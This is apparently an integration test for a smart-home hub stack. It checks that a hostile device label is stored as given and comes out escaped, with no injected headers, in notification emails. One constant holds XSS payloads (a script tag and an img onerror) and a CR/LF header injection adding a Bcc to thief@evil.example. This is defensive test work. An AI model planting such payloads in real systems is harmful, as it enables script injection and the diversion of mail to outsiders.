/**
 * A device label is whatever the hub says it is: someone who can rename a device in the hub's own
 * UI controls it. Script and CR/LF in a label must be stored as given, returned as data, and stay
 * inert in the notification mail an automation sends about that device (read from a real SMTP server).
 */
import { HOUSEHOLD } from "../../hub-simulator/src/household";
import { VirtualDevice } from "../../hub-simulator/src/hub";
import { startSmtpSink, waitFor, type SmtpSink } from "../../subgraphs/email/src/__tests__/smtp-sink";
import { attackLog } from "../support/attacks";
import { deviceIdOf, physicalChange } from "../support/home";
import { startStack, type SignedIn, type Stack } from "../support/stack";
import { within } from "../support/tokens";

const log = attackLog("device-labels");
const HOSTILE = `Door <script>alert("x")</script><img src=x onerror=alert(1)>\r\nBcc: thief@evil.example`;
let stack: Stack;
let sink: SmtpSink;
let admin: SignedIn;

beforeAll(async () => {
  sink = await startSmtpSink();
  stack = await startStack({ hub: true, emailEnv: { SMTP_URL: sink.url } });
  await within(15_000, async () => (await stack.sql(`select connected from home.hub_state`))[0]?.connected === true);
  await stack.addUser({ email: "olga@example.com", password: "correct horse battery", role: "ADMIN" });
  admin = await stack.signIn("olga@example.com", "correct horse battery");
});
afterAll(async () => {
  log.finish();
  await stack?.stop();
  await sink?.stop();
});

it("a hostile label is stored as given and inert in the notification mail", async () => {
  // The hub renames the front door's contact sensor; home reads the new label on its next sync.
  const def = HOUSEHOLD.find((d) => d.id === "31")!;
  stack.hub!.hub.devices.set("31", new VirtualDevice({ ...def, label: HOSTILE }));
  const resync = await stack.query(`mutation { resyncHub { connected } }`, undefined, {
    authorization: admin.authorization,
  });
  expect(resync.body.errors).toBeUndefined();
  const deviceId = await deviceIdOf(stack, "31");
  const [row] = await stack.sql(`select label from home.devices where id = $1`, [deviceId]);
  log.refused(
    "script and CR/LF in a device label",
    "home.devices",
    "stored as given",
    row!.label === HOSTILE ? "stored as given" : `stored as ${JSON.stringify(row!.label)}`,
  );
  const read = await stack.query(
    `query ($id: ID!) { device(id: $id) { label } }`,
    { id: deviceId },
    { authorization: admin.authorization },
  );
  expect(read.body.data?.device.label).toBe(HOSTILE);

  const created = await stack.query(
    `mutation ($input: AutomationInput!) { createAutomation(input: $input) { id } }`,
    {
      input: {
        name: "Door opened",
        trigger: { type: "attribute", deviceId, attribute: "contact", becomes: "open" },
        conditions: [],
        actions: [{ type: "notify", role: "ADMIN" }],
      },
    },
    { authorization: admin.authorization },
  );
  expect(created.body.errors).toBeUndefined();
  await physicalChange(stack, "31", "contact", "closed");
  await physicalChange(stack, "31", "contact", "open");
  await waitFor("the door notification", () => sink.mails.some((m) => m.to.includes("olga@example.com")));
  const mail = sink.mails.find((m) => m.to.includes("olga@example.com"))!;
  const html = String(mail.parsed.html);
  const inert = !/<script|<img/i.test(html) && html.includes("&lt;script&gt;");
  log.refused(
    "script in a device label",
    "notification mail HTML (SMTP sink)",
    "escaped",
    inert ? "escaped" : "LIVE MARKUP",
  );
  const injected = sink.mails.some((m) => m.to.includes("thief@evil.example")) || !!mail.header("bcc");
  log.refused(
    "CR/LF in a device label",
    "notification mail headers (SMTP sink)",
    "no injected header or recipient",
    injected ? "INJECTED" : "no injected header or recipient",
  );
});
